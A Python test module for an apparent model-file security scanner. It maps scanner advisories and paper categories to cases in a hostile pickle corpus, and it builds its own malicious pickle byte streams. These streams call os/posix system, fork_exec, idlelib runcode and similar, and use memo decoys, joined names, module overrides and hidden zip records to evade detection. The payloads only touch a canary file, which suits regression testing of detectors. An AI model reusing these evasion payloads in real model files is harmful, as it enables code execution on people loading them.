"""What each published advisory of another scanner is about, as a file that runs.

A row is an id and a case of the hostile corpus, by name, or a case of its own. The names say which
scanner missed it: picklescan where none is named.
"""

from __future__ import annotations

from pathlib import Path

from tests.bypasses.payloads import Raw, call, named, source, stream, system, value
from tests.corpus.cases import Case
from tests.corpus.hostile import CASES
from tests.corpus.hostile.gadgets_code import EMPTY, imported
from tests.corpus.hostile.gadgets_process import made, shell
from tests.corpus.hostile.packed import CENTRAL, evil, zipped

# advisory -> name of the case
KNOWN = """
    CVE-2019-6446=nested-numpy-load
    CVE-2022-45907=own-torch-parse-type-line
    CVE-2025-1716:GHSA-655q-fx9r-782v=process-pip-main
    CVE-2025-1889:GHSA-769v-p64c-89pr=zip-member-name-no-suffix
    CVE-2025-1944:GHSA-7q5r-7gvp-wc82=zip-local-name
    CVE-2025-1945:GHSA-w8jq-xcqf-f792=zip-encrypted-local
    CVE-2025-10155:GHSA-jgw4-cr84-mqxg=own-pickle-called-bin
    CVE-2025-10156:GHSA-mjqp-26hc-grxg=zip-crc-both
    CVE-2025-10157:GHSA-f7qq-56ww-84cr=process-asyncio-transport
    GHSA-93mv-x874-956g=zip-crc-central
    GHSA-q77w-mwjj-7mqx=process-asyncio-transport
    GHSA-9gvj-pp9x-gcfr(position-zero)=own-name-at-position-zero
    GHSA-9gvj-pp9x-gcfr(type-confusion)=own-type-confusion
    GHSA-9gvj-pp9x-gcfr(unset-memo)=own-unset-memo
    GHSA-9gvj-pp9x-gcfr(duplicated)=name-dup-system-4
    GHSA-v7x6-rv5q-mhwc=code-timeit-timeit
    GHSA-xp4f-hrf8-rxw7=process-ensurepip-run-pip
    GHSA-fqq6-7vqf-w3fg=own-debug-script
    GHSA-49gj-c84q-6qm9=code-cprofile-run
    GHSA-9w88-8rmg-7g2p=code-cprofile-runctx
    GHSA-x696-vm39-cp64=code-profile-profile-run
    GHSA-6vqj-c2q5-j97w=code-profile-profile-runctx
    CVE-2026-53873:GHSA-7wx9-6375-f5wh=code-profile-run
    GHSA-5qwp-399c-mjwf=code-trace-run
    GHSA-g344-hcph-8vgg=code-trace-runctx
    GHSA-cj3c-v495-4xqh=code-code-runcode
    GHSA-9xph-j2h6-g47v=code-idlelib-calltip
    GHSA-8r4j-24qv-fmq9=own-calltip-fetch-tip
    GHSA-6w4w-5w54-rjvr=own-autocomplete-get-entity
    GHSA-7cq8-mj8x-j263=own-autocomplete-fetch
    GHSA-3vg9-h568-4w9m=own-object-tree-item
    GHSA-m869-42cg-3xwr=own-executive-runcode
    GHSA-3gf5-cxq9-w223=own-pyshell-runcode
    GHSA-j343-8v2j-ff7w=own-pyshell-runcommand
    GHSA-f54q-57x4-jg88=nested-lib2to3-grammar
    GHSA-p9w7-82w4-7q8m=code-lib2to3-make-label
    GHSA-m273-6v24-x4m4=file-distutils-write-file
    GHSA-4675-36f9-wf6r=code-ctypes-cdll
    GHSA-84r2-jw7c-4r5q=own-locate-and-methodcaller
    GHSA-955r-x9j8-7rhh=indirect-methodcaller-c
    GHSA-46h3-79wf-xr6c=indirect-attrgetter-c
    CVE-2025-71322:GHSA-hgrh-qx5j-jfwx=process-pty-spawn
    GHSA-vqmv-47xg-9wpr=process-pty-spawn
    GHSA-r8g5-cgf2-4m4m=nested-numpy-getlincoef
    CVE-2025-71372:GHSA-rrxm-2pvv-m66x=nested-numpy-getlincoef
    CVE-2025-71365:GHSA-3329-ghmp-jmv5=nested-numpy-myeval
    CVE-2025-71347:GHSA-cffc-mxrf-mhh4=own-param-eval
    CVE-2025-71339:GHSA-6556-fwc2-fg2p=nested-numpy-eval-length
    GHSA-vvpj-8cmc-gx39=code-pkgutil-resolve-name
    CVE-2026-56304=file-logging-filehandler
    CVE-2026-56315:GHSA-g38g-8gr9-h9xp(uuid)=process-uuid-get-command-stdout
    CVE-2026-56315:GHSA-g38g-8gr9-h9xp(imaplib)=process-imaplib-stream
    CVE-2026-56315:GHSA-g38g-8gr9-h9xp(pyrepl)=process-pyrepl-pipe-pager
    CVE-2026-56315:GHSA-g38g-8gr9-h9xp(osx)=process-osx-support-read-output
    CVE-2026-56315:GHSA-g38g-8gr9-h9xp(aix)=process-aix-support-read
    CVE-2026-56315:GHSA-g38g-8gr9-h9xp(test)=process-test-script-helper
    CVE-2025-32434=nested-torch-load-from-bytes
    GHSA-vv6j-3g6g-2pvj=nested-torch-config-module
    GHSA-h3qp-7fh3-f8h4=nested-torch-decoder
    CVE-2025-71353:GHSA-86cj-95qr-2p4f=nested-torch-guard
    GHSA-f4x7-rfwp-v3xw=nested-torch-shape-env
    GHSA-vr7h-p6mm-wpmh=nested-torch-execwrapper
    GHSA-4r9r-ch6f-vxmx=nested-torch-bottleneck
    GHSA-4whj-rm5r-c2v8=own-run-autograd-prof
    GHSA-f745-w6jp-hpxx=nested-torch-collect-env-run
    GHSA-jhph-76pp-mggw=nested-torch-collect-env-lambda
    picklescan-issue-14=own-memo-decoy
    picklescan-issue-22=name-memo-binput-system-4
    picklescan-issue-66=indirect-getattr
    picklescan-pull-74(importlib)=code-importlib-import-module
    picklescan-pull-74(marshal)=nested-marshal-exec
    picklescan-flags-0x20=zip-patched-data
    picklescan-flags-0x40=zip-strong-encryption
    picklescan-central-directory=own-local-record-alone
    picklescan-invalid-bytes=own-invalid-bytes
    picklescan-sys-modules-override=own-modules-override
    picklescan-cloudpickle=nested-cloudpickle-make-function
    picklescan-codetype=code-types-function
    picklescan-fileio=file-c-io-fileio
    picklescan-object-array=numpy-version-1
    fickling-CVE-2025-67747:GHSA-565g-hwwr-4pp3=code-types-function
    fickling-CVE-2025-67748:GHSA-r7v6-mfhq-g3m2=own-pty-obj
    fickling-CVE-2026-22606:GHSA-wfq2-52f7-7qvj=code-runpy-run-path
    fickling-CVE-2026-22607:GHSA-p523-jq9w-64x9=code-cprofile-run
    fickling-CVE-2026-22609:GHSA-q5qq-mvfm-j35x(importlib)=own-getattr-of-import
    fickling-CVE-2026-22609:GHSA-q5qq-mvfm-j35x(code)=own-getattr-of-interpreter
    fickling-CVE-2026-22609:GHSA-q5qq-mvfm-j35x(spawn)=process-multiprocessing-util-spawnv
    fickling-GHSA-5hvc-6wx8-mvv4(pydoc)=code-pydoc-locate
    fickling-GHSA-5hvc-6wx8-mvv4(ctypes)=code-ctypes-cdll
    fickling-CVE-2026-22612:GHSA-h4rm-mm56-xf63=own-import-put-and-get
    fickling-CVE-2026-14535:GHSA-cffv-grgg-g429=process-uuid-get-command-stdout
    fickling-GHSA-m6fh-58r7-x697(site)=code-site-addsitedir
    fickling-GHSA-m6fh-58r7-x697(atexit)=indirect-atexit
    fickling-GHSA-m6fh-58r7-x697(posixsubprocess)=own-fork-exec
    fickling-GHSA-6ggj-6f2q-f7mx(old)=code-subinterpreters-old
    fickling-GHSA-6ggj-6f2q-f7mx(new)=code-subinterpreters-new
    fickling-issue-16(socket)=file-socket-bind
    modelscan-issue-85=own-build-on-a-function
    modelscan-issue-263=process-pip-main
    modelscan-issue-267=nested-pickle-loads
    modelscan-issue-330=own-builtins-into-a-function
    modelscan-issue-331=own-joined-names
    modelscan-issue-338(collect-env)=nested-torch-collect-env-run
    modelscan-issue-338(spawnv)=process-multiprocessing-util-spawnv
    modelscan-issue-338(urlretrieve)=file-urllib-urlretrieve
    modelscan-issue-338(memo)=own-unset-memo
    modelaudit-pull-1061(defaultdict)=indirect-defaultdict
    modelaudit-pull-1061(regex)=indirect-re-sub
    modelaudit-pull-1061(weakref)=indirect-weakref-ref
    modelaudit-pull-1061(future)=indirect-future-callback
    modelaudit-pull-1061(template)=indirect-template-substitute
    modelaudit-pull-1061(itertools)=indirect-starmap
    modelaudit-pull-1061(consumer)=indirect-map-mean
    modelaudit-pull-1061(descriptor)=indirect-property
    modelaudit-pull-1061(lifecycle)=indirect-setstate
    modelaudit-pull-1061(startup)=code-site-addpackage
"""
# "The Art of Hide and Seek" (arXiv 2508.19774): loading paths, exceptions, gadgets, by class; and
# what PickleBall's policies per class are about.
PAPERS = """
    path-torch-zip=torch-plain
    path-torch-zip-beside-tensors=torch-beside-tensor
    path-torch-zip-any-folder=torch-other-folder
    path-torch-legacy-magic=torch-legacy-magic
    path-torch-legacy-protocol=torch-legacy-protocol
    path-torch-legacy-info=torch-legacy-info
    path-torch-legacy-object=torch-legacy-object
    path-torch-legacy-keys=torch-legacy-keys
    path-torch-tar-pickle=torch-tar-pickle
    path-torch-tar-storages=torch-tar-storages
    path-torch-tar-tensors=torch-tar-tensors
    path-numpy-npy=numpy-version-1
    path-numpy-npz=numpy-npz
    path-numpy-npz-compressed=numpy-npz-compressed
    path-numpy-pickle=numpy-plain-pickle
    path-joblib-plain=joblib-plain
    path-joblib-between-arrays=joblib-between-arrays
    path-joblib-object-array=joblib-in-object-array
    path-joblib-zlib=joblib-behind-array-zlib
    path-joblib-gzip=joblib-behind-array-gzip
    path-joblib-bz2=joblib-behind-array-bz2
    path-joblib-lzma=joblib-behind-array-lzma
    path-joblib-xz=joblib-behind-array-xz
    path-keras-lambda=keras-lambda
    path-pandas=pandas-zip
    exception-no-stop=broken-no-stop-pickle
    exception-bad-opcode=broken-no-opcode-pickle
    exception-bad-number=broken-bad-int-pickle
    exception-underflow=broken-underflow-pickle
    exception-memo=broken-unset-memo-pickle
    exception-missing-name=broken-missing-name-pickle
    exception-invalid-text=broken-bad-utf8-pickle
    exception-zip-flags=zip-encrypted-local
    exception-zip-sum=zip-crc-both
    exception-zip-names=zip-local-name
    exception-zip-size=zip-local-size
    gadget-nested=nested-pickle-deep
    gadget-import=code-logging-config-resolve
    gadget-attribute=indirect-inspect-getattr-static
    gadget-exec=nested-torch-forward-from-src
    gadget-eval=nested-numpy-measure
    gadget-process=process-test-run-python
    gadget-file=file-zipfile-extractall
    gadget-hub=nested-torch-hub
    pickleball-allowed-class-state=crossed-process-os-popen-in-instance
    pickleball-callable-in-allowed-class=own-callable-in-ordered-dict
    pickleball-object-of-allowed-module=own-reexport-of-allowed-module
"""


def _own(identity: str, build, *, loader="pickle", suffix=".pkl", needs=()) -> Case:
    return Case(f"own-{identity}", "advisories", build, loader, suffix, needs)


def _values(*values: Raw, protocol: int = 4):
    return stream(*values, protocol=protocol)


def _interpreter(canary: Path) -> Raw:
    interpreter = call(named("code", "InteractiveInterpreter"))
    run = call(named("builtins", "getattr"), interpreter, "runsource")
    return call(run, source(canary))


def _locate(canary: Path) -> Raw:
    module = call(named("pydoc", "locate"), "os")
    return call(call(named("operator", "methodcaller"), "system", shell(canary)), module)


def _imported_by_memo(canary: Path) -> bytes:
    """Protocol 0, with PUT, POP and GET between the calls."""
    return (
        b"cbuiltins\n__import__\n(S'os'\ntRp0\n0cbuiltins\ngetattr\n(g0\nS'system'\ntRp1\n0g1\n("
        + f"S'{shell(canary)}'\ntR.".encode()
    )


def _joined(canary: Path) -> Raw:
    """The names are joined from letters while loading."""

    def joined(text: str) -> Raw:
        return call(named("builtins", "str.join"), "", list(text))

    module = call(named("builtins", "__import__"), joined("os"))
    return call(call(named("builtins", "getattr"), module, joined("system")), shell(canary))


def _built_function(canary: Path) -> bytes:
    """BUILD sets attributes of a function, which are then named."""
    setting = b"N}" + value("a") + value("posix") + b"s\x86b"
    setting += b"N}" + value("b") + value("system") + b"s\x86b0"
    names = value("json") + value("dumps.a") + b"\x93" + value("json") + value("dumps.b") + b"\x93"
    return b"\x80\x05cjson\ndumps\n" + setting + names + b"\x93" + value((shell(canary),)) + b"R."


def _builtins_state(canary: Path) -> bytes:
    """``__builtins__`` of a module becomes the state of a function."""
    found = value("json") + value("__builtins__") + b"\x93q\x03"
    target = value("json") + value("dumps") + b"\x93"
    state = b"}}" + value("shape") + b"h\x03s\x86b"
    get = named("builtins", "dict.get").opcodes + b"h\x03" + value("exec") + b"\x86R"
    return b"\x80\x04" + found + b"0" + target + state + b"0" + get + value((source(canary),)) \
        + b"R."  # fmt: skip


def _override(canary: Path) -> bytes:
    """A module in ``sys.modules`` is replaced, then named."""
    modules = named("sys", "modules").opcodes
    setting = modules + value("harmless") + named("random", "_os").opcodes + b"s0"
    return b"\x80\x04" + setting + b"charmless\nsystem\n" + value((shell(canary),)) + b"R."


def _debug_script(canary: Path) -> Raw:
    return call(named("doctest", "debug_script"), source(canary), True, EMPTY)


def _fork_exec(canary: Path) -> Raw:
    words = [b"touch", str(canary).encode()]
    args = (words, (b"/usr/bin/touch", b"/bin/touch"), True, (0,), None, None)
    pipes = (-1, -1, -1, -1, -1, -1, 0, 1, True, False)
    ids = (-1, None, None, None, -1, None, False)
    return call(named("_posixsubprocess", "fork_exec"), *args, *pipes, *ids)


def _executive(canary: Path) -> Raw:
    state = b"}" + value("locals") + b"}s"
    self = made("types", "SimpleNamespace", state)
    return call(named("idlelib.run", "Executive.runcode"), self, source(canary))


def _tree_item(canary: Path) -> Raw:
    state = (
        b"}(" + value("object") + b"N" + value("setfunction") + named("builtins", "exec").opcodes
    )
    self = made("types", "SimpleNamespace", state + b"u")
    return call(named("idlelib.debugobj", "ObjectTreeItem.SetText"), self, source(canary))


def _entity(module: str, name: str, canary: Path) -> Raw:
    return call(named(module, name), None, source(canary))


def _pyshell(name: str, canary: Path) -> Raw:
    return call(named("idlelib.pyshell", f"ModifiedInterpreter.{name}"), None, source(canary))


def _hidden_record(canary: Path) -> bytes:
    data = zipped([("a.pkl", evil(canary))])
    return data[: data.index(CENTRAL)]


OWN = [
    _own("pickle-called-bin", lambda m: _values(system(m)), suffix=".bin"),
    _own("name-at-position-zero", lambda m: b"\x8c\x05posix\x8c\x06system\x93"
         + value((shell(m),)) + b"R."),
    _own("type-confusion", lambda m: b"\x80\x04K\x2a\x940" + value("posix") + value("system")
         + b"\x93" + value((shell(m),)) + b"R0" + b"h\x00" + value("os") + b"\x93."),
    _own("unset-memo", lambda m: b"\x80\x04" + system(m).opcodes + b"h\x63" + value("os")
         + b"\x93."),
    _own("memo-decoy", lambda m: b"\x80\x04" + value("posix") + b"q\x05" + value("collections")
         + b"q\x0600h\x05" + value("system") + b"\x93" + value((shell(m),)) + b"R."),
    _own("invalid-bytes", lambda m: b"\x80\x04" + system(m).opcodes + b"0cos\xff\nsystem\n."),
    _own("locate-and-methodcaller", lambda m: _values(_locate(m))),
    _own("pty-obj", lambda m: b"(cpty\nspawn\n" + value(["touch", str(m)]) + b"o."),
    _own("getattr-of-import", lambda m: _values(imported("importlib", "import_module", "os")(m))),
    _own("getattr-of-interpreter", lambda m: _values(_interpreter(m))),
    _own("import-put-and-get", _imported_by_memo),
    _own("joined-names", lambda m: _values(_joined(m))),
    _own("build-on-a-function", _built_function),
    _own("builtins-into-a-function", _builtins_state),
    _own("modules-override", _override),
    _own("local-record-alone", _hidden_record, loader="zip records", suffix=".zip"),
    _own("callable-in-ordered-dict", lambda m: _values(call(
        named("collections", "OrderedDict"), [["a", system(m)]]))),
    _own("reexport-of-allowed-module", lambda m: _values(call(
        named("sklearn.base", "warnings.sys.modules.get"), "os")) + _values(system(m)),
        loader="all", needs=("sklearn.base",)),
    _own("param-eval", lambda m: _values(call(
        named("numpy.f2py.crackfortran", "param_eval"), source(m), EMPTY, EMPTY)),
        needs=("numpy.f2py.crackfortran:param_eval",)),
    _own("torch-parse-type-line", lambda m: _values(call(
        named("torch.jit.annotations", "parse_type_line"), f"# type: () -> {source(m)}",
        None, None)), needs=("torch<1.14",)),
    _own("run-autograd-prof", lambda m: _values(call(
        named("torch.utils.bottleneck.__main__", "run_autograd_prof"), source(m), EMPTY)),
        needs=("torch.utils.bottleneck.__main__",)),
    _own("debug-script", lambda m: _values(_debug_script(m)), needs=("none: asks a terminal",)),
    _own("fork-exec", lambda m: _values(_fork_exec(m)), needs=("none: arguments of one release",)),
    _own("executive-runcode", lambda m: _values(_executive(m)), needs=("none: asks a shell",)),
    _own("object-tree-item", lambda m: _values(_tree_item(m)),
         needs=("idlelib.debugobj", "none: asks a window")),
    _own("autocomplete-get-entity", lambda m: _values(
        _entity("idlelib.autocomplete", "AutoComplete.get_entity", m)),
        needs=("idlelib.autocomplete",)),
    _own("autocomplete-fetch", lambda m: _values(
        _entity("idlelib.autocomplete", "AutoComplete.fetch_completions", m)),
        needs=("none: asks a window",)),
    _own("calltip-fetch-tip", lambda m: _values(
        _entity("idlelib.calltip", "Calltip.fetch_tip", m)), needs=("none: asks a window",)),
    _own("pyshell-runcode", lambda m: _values(_pyshell("runcode", m)),
         needs=("none: asks a window",)),
    _own("pyshell-runcommand", lambda m: _values(_pyshell("runcommand", m)),
         needs=("none: asks a window",)),
]  # fmt: skip


def _rows(text: str) -> dict[str, str]:
    return dict(line.strip().rsplit("=", 1) for line in text.strip().splitlines())


ADVISORIES = _rows(KNOWN)
CLASSES = _rows(PAPERS)
BY_NAME = {case.id: case for case in [*CASES, *OWN]}
